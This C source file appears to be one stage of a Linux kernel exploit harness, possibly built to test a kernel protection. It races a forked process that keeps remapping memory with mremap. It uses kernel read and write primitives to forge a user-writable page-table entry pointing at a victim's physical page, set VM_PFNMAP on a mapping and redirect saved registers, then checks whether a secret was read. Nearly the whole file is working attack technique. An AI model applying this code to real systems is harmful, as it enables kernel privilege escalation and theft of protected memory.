// SPDX-License-Identifier: GPL-2.0-only
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "mover.h"
#include "objects.h"
#include "pt_regs.h"

#define MOVED_PART	0x5d		/* and the next one */
#define PATIENCE	50		/* milliseconds, for the mover to go on */
#define ENOUGH		12		/* registers that were changed */
#define SECONDS		60
#define LAST_LOOK	300000		/* microseconds */

/* The bit by which nobody asks whose a page is ... */
#ifdef __x86_64__
#define PTE_SPECIAL	(1UL << 9)
#else
#define PTE_SPECIAL	(1UL << 56)
#endif

/* Two places that differ by a page, so that no table is moved as a whole. */
static const int first_entry[] = { 1, 2 };

struct mover *mover;

static char *place(int which)
{
	return (char *)user_room(MOVED_PART + which) + first_entry[which] * PAGE_SIZE;
}

/* A page ahead of it keeps the table when all of the rest is moved. */
static bool make_place(int which)
{
	volatile char *page = mmap(place(which) - first_entry[which] * PAGE_SIZE, PAGE_SIZE,
				   PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
				   MAP_FIXED_NOREPLACE, -1, 0);

	if (page == MAP_FAILED)
		return false;
	*page = 1;
	return true;
}

/* All of it is the zero page. */
static bool make_places(void)
{
	volatile char *page;
	int i;

	if (!make_place(0) || !make_place(1))
		return false;
	page = mmap(place(0), MOVED_PAGES * PAGE_SIZE, PROT_READ,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (page != (volatile char *)place(0))
		return false;
	madvise((void *)page, MOVED_PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
	for (i = 0; i < MOVED_PAGES; i++)
		(void)page[i * PAGE_SIZE];
	return true;
}

/* ... in a mapping that is said to be a driver's. */
static void take_text(const char *page)
{
	uint64_t vma;

	snprintf(mover->text, sizeof(mover->text), "%s", page);
	vma = find_vma(page);
	if (vma)
		kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_PFNMAP);
	munmap((void *)page, PAGE_SIZE);
	mover->found = true;
	pause();
}

static void move_for_ever(void)
{
	size_t size = MOVED_PAGES * PAGE_SIZE;
	const volatile char *last;
	int from = 0;

	for (;; from = !from) {
		mover->from = from;
		if (mremap(place(from), size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
			   place(!from)) != place(!from))
			_exit(1);
		last = place(!from) + size - PAGE_SIZE;
		if (*last)
			take_text((const char *)last);
		mover->rounds++;
	}
}

pid_t start_mover(void (*begin)(void))
{
	pid_t pid;

	mover = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(MOVER_CPU);
	if (make_places())
		begin();
	move_for_ever();
	return 0;
}

bool find_moved(pid_t pid, struct moved *moved)
{
	char zero[PAGE_SIZE];
	struct slot slot;
	int i;

	for (i = 0; i < 2; i++) {
		if (kwalk((uint64_t)place(i), LEVEL_PTE, pid, &slot))
			return false;
		moved->table[i] = slot.slot & -PAGE_SIZE;
	}
	moved->pid = pid;
	if (ktask(pid, &moved->task) || !kernel_page(&moved->forged))
		return false;
	memset(zero, 0, sizeof(zero));
	kwrite(moved->forged.addr, zero, sizeof(zero));
	moved->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL;
	return true;
}

uint64_t first_moved(const struct moved *moved, int which)
{
	return moved->table[which] + first_entry[which] * sizeof(uint64_t);
}

bool has_hit_mover(void)
{
	return !is_protected() || has_hit_section(MOVER_CPU);
}

static void write_entry(const struct moved *moved, int which, uint64_t value)
{
	int last = first_entry[which] + MOVED_PAGES - 1;

	kwrite64(moved->forged.addr + last * sizeof(value), value);
}

void prepare_page(const struct moved *moved)
{
	write_entry(moved, mover->from, moved->entry);
	write_entry(moved, !mover->from, 0);
}

void point_registers(struct moved *moved, uint64_t at, const uint64_t *frame)
{
	uint64_t table = moved->table[mover->from];
	int i;

	for (i = 0; i < FRAME_GENERAL; i++) {
		if ((frame[i] & -PAGE_SIZE) != table)
			continue;
		kwrite64(at + i * sizeof(*frame), moved->forged.addr + frame[i] % PAGE_SIZE);
		moved->changed++;
	}
}

static void wait_for_round(void)
{
	unsigned long round = mover->rounds;
	uint64_t end = now_ms() + PATIENCE;

	while (mover->rounds - round < 2 && !mover->found && now_ms() < end)
		usleep(1000);
}

void change_until_found(struct moved *moved, void (*change_once)(struct moved *moved))
{
	uint64_t end = now_ms() + SECONDS * 1000;

	while (!mover->found && !moved->dead && moved->changed < ENOUGH && now_ms() < end) {
		change_once(moved);
		wait_for_round();
		moved->dead = was_killed(moved->pid);
	}
}

enum outcome judge_moved(const struct moved *moved)
{
	usleep(LAST_LOOK);
	if (moved->dead && !mover->found)
		return lost("the mover was killed");
	if (!mover->found && !moved->changed)
		return broken("no section was interrupted (%lu rounds, %d handlers held)",
			      mover->rounds, moved->held);
	return judge_secret(mover->text, 0);
}
